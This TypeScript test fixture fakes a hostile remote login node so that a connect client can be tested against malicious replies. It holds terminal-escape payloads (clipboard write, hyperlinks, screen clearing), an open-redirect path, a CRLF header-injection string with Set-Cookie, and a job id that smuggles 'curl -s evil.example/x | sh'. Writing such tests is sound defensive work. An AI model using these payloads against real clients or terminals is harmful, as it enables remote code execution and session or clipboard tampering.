/**
 * A fake of the login node's side of `connect`, for what no real agent does: another release
 * (no other release exists here to run), and a hostile or broken login node. Run as
 * `--remote-command 'deno run -A fake_remote.ts MODE'` (connect appends `agent`, which it
 * ignores). Modes:
 *
 * - `version` (or none): the marker and a hello of protocol 99, then it waits.
 * - `escapes`: speaks the protocol, and every text it sends (notes, warnings, status, the
 *   job's log, the error) is full of terminal escapes: ESC[2J, OSC 52, OSC 8, OSC 0, C1
 *   controls, colours never reset; the error asks for exit code 0.
 * - `exit-abc`: an error whose exit code is "abc".
 * - `redirect`, `crlf`: a ready whose base path leaves the laptop's origin (`//evil.example/`),
 *   or injects headers (CR LF).
 * - `odd-path`: a ready with the base path `/a b/\evil.example/`, and an HTTP 200 on every
 *   stream (so that the laptop prints its URL and opens its one-time link).
 * - `jobid`: a job id that is a shell command.
 * - `flood`: a 1 MB note every 2 ms for 6 s, then an error with exit code 3.
 * - `silent`: never prints the marker; `endless`: prints lines without end, no marker.
 * - `badframe`: the marker, then bytes that are no frame.
 * - `jobs-c1`: answers `--jobs` with a job whose name holds C1 controls.
 * @module
 */

import { encodeControl, MARKER } from "../../src/relay/frame.ts";
import { serveStdio } from "../../src/relay/pipes.ts";
import type { MuxStream } from "../../src/relay/mux.ts";
import { VERSION } from "../../src/version.ts";

const mode = Deno.args[0] && Deno.args[0] !== "agent" ? Deno.args[0] : "version";
const enc = new TextEncoder();

/** Every escape the laptop must not pass to its terminal. */
export const HOSTILE = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example/\x1b\\click" +
  "\x1b]8;;\x1b\\\x1b]0;pwned\x07\x1b[31mred\x9b2J\x9d0;c1\x9c";

async function waitForStdinEnd(): Promise<void> {
  for await (const _ of Deno.stdin.readable) { /* until the laptop hangs up */ }
}

/** Lines without end, never a marker (a login file gone wild). */
async function endless(): Promise<never> {
  for (let i = 0;; i++) {
    await raw(enc.encode(`loading line ${i} ${HOSTILE}\n`));
    await new Promise((r) => setTimeout(r, 5));
  }
}

async function raw(bytes: Uint8Array): Promise<void> {
  let off = 0;
  while (off < bytes.length) off += await Deno.stdout.write(bytes.subarray(off));
}

/** Answers every stream with an HTTP 200, as a Jupyter would answer /api/status. */
function answer200(s: MuxStream): void {
  (async () => {
    await s.read();
    const body = "{}";
    await s.write(enc.encode(
      `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n` +
        `Connection: close\r\n\r\n${body}`,
    ));
    await s.end();
  })().catch(() => {});
}

function ready(basePath: string): Record<string, unknown> {
  return {
    type: "ready",
    job: "7",
    server: "ab12cd34",
    app: "notebook",
    version: "6.4.12",
    node: "node1",
    port: 8888,
    token: "0123456789abcdef",
    basePath,
    notebookDir: "/home/me",
    route: "srun",
    direct: true,
    login: "login1",
  };
}

async function speak(): Promise<void> {
  const peer = await serveStdio({
    role: "server",
    hello: "agent",
    version: VERSION,
    onOpen: (s) => answer200(s),
  });
  const send = (m: Record<string, unknown>) => peer.session.control(m);
  await peer.inbox.next(["hello"]);
  const req = await peer.inbox.next(["start", "attach", "jobs", "cancel"]);
  switch (mode) {
    case "escapes":
      send({ type: "note", text: `note ${HOSTILE}` });
      send({ type: "warning", text: `warning ${HOSTILE}` });
      send({ type: "status-text", text: `status ${HOSTILE}` });
      send({ type: "submitted", job: "7", log: `/tmp/log${HOSTILE}` });
      send({
        type: "status",
        status: { id: "7", state: `PENDING${HOSTILE}`, phase: "queued", reason: HOSTILE },
      });
      send({ type: "error", message: `error ${HOSTILE}`, exitCode: 0 });
      break;
    case "exit-abc":
      send({ type: "error", message: "a failure with a bad exit code", exitCode: "abc" });
      break;
    case "redirect":
      send({ type: "submitted", job: "7" });
      send(ready("//evil.example/"));
      break;
    case "crlf":
      send({ type: "submitted", job: "7" });
      send(ready("/x\r\nSet-Cookie: evil=1\r\nContent-Length: 4\r\n\r\nevil"));
      break;
    case "odd-path":
      send({ type: "submitted", job: "7" });
      send(ready("/a b/\\evil.example/"));
      break;
    case "jobid":
      send({ type: "submitted", job: "7; curl -s evil.example/x | sh" });
      break;
    case "flood": {
      const note = { type: "note", text: "x".repeat(1_000_000) };
      const until = Date.now() + 6000;
      while (Date.now() < until) {
        send(note);
        await peer.session.flush();
        await new Promise((r) => setTimeout(r, 2));
      }
      send({ type: "error", message: "the flood is over", exitCode: 3 });
      break;
    }
    case "jobs-c1":
      send({
        type: "jobs",
        jobs: [{
          id: "9",
          kind: "job",
          name: `evil\x9b2J\x1b]0;t\x07name`,
          state: "RUNNING",
          phase: "running",
          node: "node1",
          serverUp: true,
        }],
      });
      break;
  }
  void req;
  await peer.session.flush();
  if (mode === "odd-path") await peer.session.ended;
  else await waitForStdinEnd();
}

switch (mode) {
  case "version":
    await raw(
      new Uint8Array([
        ...enc.encode(MARKER),
        ...encodeControl({
          type: "hello",
          program: "legate-jupyter",
          version: "9.9.9",
          protocol: 99,
          role: "agent",
          host: Deno.hostname(),
        }),
      ]),
    );
    await waitForStdinEnd();
    break;
  case "silent":
    await waitForStdinEnd();
    break;
  case "endless":
    await endless();
    break;
  case "badframe":
    await raw(enc.encode(MARKER + "GARBAGE-NOT-A-FRAME".repeat(10)));
    await waitForStdinEnd();
    break;
  default:
    await speak();
}
